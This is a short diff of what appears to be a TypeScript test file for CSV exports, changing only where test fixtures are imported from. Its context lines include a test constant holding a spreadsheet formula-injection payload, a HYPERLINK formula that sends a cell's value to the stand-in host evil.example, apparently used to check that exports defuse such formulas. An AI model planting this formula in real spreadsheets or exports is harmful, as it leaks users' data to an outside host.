@@ -2,10 +2,10 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { startTestApp, type TestApp } from '../../../test/app.ts';
 import { describeEachDatabase } from '../../../test/databases.ts';
+import { type Api, addAssessment, listen, playToDebrief } from '../../../test/fixtures/exports.ts';
 import { EXPORT_DATASETS, EXPORT_FORMATS } from '../../contract/exports.ts';
 import { conversations, messages } from '../db/schema.ts';
 import { PAGE_SIZE } from '../exports/pages.ts';
-import { type Api, addAssessment, listen, playToDebrief } from '../exports/test-fixtures.ts';
 
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const WRONG_MASK = 'I take an adult face mask and a 250 mL bag.';
